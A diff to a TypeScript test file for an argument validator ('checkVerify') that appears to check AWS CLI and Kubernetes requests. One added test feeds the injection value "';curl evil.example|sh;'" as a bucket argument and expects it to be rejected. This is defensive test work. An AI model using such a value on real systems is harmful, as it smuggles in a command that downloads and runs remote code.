@@ -24,6 +24,10 @@ describe('checkVerify', () => {
       check(['s3', 'ls', 'my-bucket', '--recursive']),
     ],
     [
+      'a place after an option that takes no value',
+      check(['s3', 'ls', '--recursive', 'my-bucket']),
+    ],
+    [
       'a value after its option',
       check(['s3api', 'head-bucket', '--bucket', 'b']),
     ],
@@ -57,6 +61,12 @@ describe('checkVerify', () => {
   });
 
   it.each<[string, Record<string, unknown>, string, RegExp]>([
+    [
+      'what is no place after an option that takes no value',
+      check(['s3', 'ls', '--recursive', "';curl evil.example|sh;'"]),
+      INPUT,
+      /takes one place/,
+    ],
     [
       'a pod in a denied namespace',
       { namespace: 'kube-system' },
